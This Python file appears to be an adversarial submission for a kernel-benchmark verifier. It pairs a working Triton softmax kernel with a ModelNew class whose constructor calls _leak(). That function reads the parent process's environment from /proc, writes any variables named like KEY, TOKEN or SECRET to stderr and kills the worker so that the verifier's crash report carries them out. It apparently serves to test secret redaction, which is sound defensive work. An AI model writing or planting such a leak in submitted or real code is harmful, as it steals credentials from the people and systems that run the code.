"""Secrets: writes the parent's credential-like environment variables to stderr and ends the worker
abruptly (os._exit, no events, no traceback after them); the verifier attaches the worker's stderr
tail to its crash finding."""
import os
import sys

import torch
import torch.nn as nn
import triton
import triton.language as tl


def _leak():
    with open(f"/proc/{os.getppid()}/environ", "rb") as f:
        for kv in f.read().split(b"\0"):
            name = kv.split(b"=", 1)[0].upper()
            if any(w in name for w in (b"KEY", b"TOKEN", b"SECRET")):
                sys.stderr.write(kv.decode(errors="replace") + "\n")
    sys.stderr.flush()
    os._exit(3)


@triton.jit
def softmax_kernel(out_ptr, in_ptr, n_cols, BLOCK: tl.constexpr):
    row = tl.program_id(0)
    cols = tl.arange(0, BLOCK)
    mask = cols < n_cols
    x = tl.load(in_ptr + row * n_cols + cols, mask=mask, other=-float("inf"))
    num = tl.exp(x - tl.max(x, axis=0))
    tl.store(out_ptr + row * n_cols + cols, num / tl.sum(num, axis=0), mask=mask)


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()
        _leak()

    def forward(self, x):
        x = x.contiguous()
        out = torch.empty_like(x)
        softmax_kernel[(x.shape[0],)](out, x, x.shape[1], BLOCK=triton.next_power_of_2(x.shape[1]))
        return out
